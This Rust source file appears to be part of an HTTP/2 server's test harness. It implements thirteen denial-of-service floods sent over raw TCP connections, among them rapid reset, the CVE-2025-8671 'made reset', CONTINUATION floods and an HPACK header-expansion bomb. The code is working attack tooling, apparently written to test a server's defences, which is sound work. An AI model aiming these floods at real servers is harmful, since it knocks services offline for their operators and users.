//! Attacks over HTTP/2, each as one connection makes it.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_0, PING, PREFACE,
    PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, head, kept,
};

/// Connections that an attacker opens, one after the other.
const CONNECTIONS: usize = 4;

/// Turns of a flood on one connection, unless it is ended before.
const TURNS: u32 = 400;

/// One attack.
pub(crate) struct Flood {
    pub(crate) name: &'static str,
    /// What a connection begins with, behind the preface.
    begin: fn() -> Vec<u8>,
    /// What it sends then, turn by turn.
    turn: fn(u32) -> Vec<u8>,
}

pub(crate) const ALL: &[Flood] = &[
    Flood { name: "rapid reset", begin: settings, turn: |turn| streams(turn, reset) },
    Flood { name: "made reset", begin: settings, turn: |turn| streams(turn, made_reset) },
    Flood { name: "pings", begin: settings, turn: |_| frame(PING, 0, 0, &[0; 8]).repeat(100) },
    Flood { name: "settings", begin: settings, turn: |_| settings().repeat(100) },
    Flood {
        name: "priorities",
        begin: settings,
        turn: |_| frame(PRIORITY, 0, 1, &[0; 5]).repeat(100),
    },
    Flood {
        name: "unknown frames",
        begin: settings,
        turn: |_| frame(0xbb, 0, 0, b"x").repeat(100),
    },
    Flood { name: "empty data", begin: upload, turn: |_| frame(DATA, 0, 1, b"").repeat(100) },
    Flood { name: "tiny data", begin: upload, turn: |_| frame(DATA, 0, 1, b"x").repeat(100) },
    Flood { name: "window updates", begin: upload, turn: |_| updates() },
    Flood { name: "a head without end", begin: open_head, turn: |_| continuation() },
    Flood { name: "a head that unfolds", begin: settings, turn: bomb },
    Flood { name: "zero windows", begin: no_window, turn: |turn| streams(turn, ask) },
    Flood { name: "large uploads", begin: settings, turn: |turn| streams(turn, fill) },
];

/// Opens connections, and sends on each until it is ended or the flood is over. Reads nothing, but for whether it is over.
pub(crate) fn run(flood: &Flood, address: SocketAddr) {
    for _ in 0..CONNECTIONS {
        let Ok(mut stream) = TcpStream::connect(address) else { continue };
        // Whoever is not read any more has to wait, and has done what it could.
        let limit = Some(Duration::from_secs(2));
        stream.set_write_timeout(limit).expect("it is not zero");
        stream.set_read_timeout(limit).expect("it is not zero");
        let begin = [PREFACE.to_vec(), (flood.begin)()].concat();
        let sent = stream
            .write_all(&begin)
            .and_then(|()| (0..TURNS).try_for_each(|turn| stream.write_all(&(flood.turn)(turn))));
        if sent.is_ok() {
            // What it is told, up to a point; then it leaves.
            let _ = stream.read(&mut [0; 64 * 1024]);
        }
    }
}

fn settings() -> Vec<u8> {
    frame(SETTINGS, 0, 0, &[])
}

fn no_window() -> Vec<u8> {
    frame(SETTINGS, 0, 0, &INITIAL_WINDOW_0)
}

fn upload() -> Vec<u8> {
    [settings(), frame(HEADERS, END_HEADERS, 1, &head("POST", "/puppet"))].concat()
}

fn open_head() -> Vec<u8> {
    [settings(), frame(HEADERS, END_STREAM, 1, &head("GET", "/puppet"))].concat()
}

fn continuation() -> Vec<u8> {
    frame(CONTINUATION, 0, 1, &kept("x-a", &"b".repeat(200)).repeat(20))
}

fn updates() -> Vec<u8> {
    let one = 1_u32.to_be_bytes();
    [frame(WINDOW_UPDATE, 0, 0, &one), frame(WINDOW_UPDATE, 0, 1, &one)].concat().repeat(50)
}

/// Twenty streams a turn, with numbers that were not used before.
fn streams(turn: u32, stream: fn(u32) -> Vec<u8>) -> Vec<u8> {
    (0..20).flat_map(|at| stream(2 * (turn * 20 + at) + 1)).collect()
}

fn ask(stream: u32) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | END_STREAM, stream, &head("GET", "/puppet"))
}

fn reset(stream: u32) -> Vec<u8> {
    [ask(stream), frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
}

/// A request whose window is then opened by nothing: the other side has to reset the stream (CVE-2025-8671).
fn made_reset(stream: u32) -> Vec<u8> {
    [ask(stream), frame(WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes())].concat()
}

/// An upload that fills its window and goes no further.
fn fill(stream: u32) -> Vec<u8> {
    let open = frame(HEADERS, END_HEADERS, stream, &head("POST", "/puppet?do=wait"));
    [open, frame(DATA, 0, stream, &[b'x'; 16 * 1024]).repeat(4)].concat()
}

/// One large field that is kept in the table, then pointed at by a byte each (index 62).
fn bomb(turn: u32) -> Vec<u8> {
    let mut block = head("GET", "/puppet");
    block.extend(kept("x-bomb", &"b".repeat(3900)));
    block.extend([0x80 | 62; 8000]);
    frame(HEADERS, END_HEADERS | END_STREAM, 2 * turn + 1, &block)
}
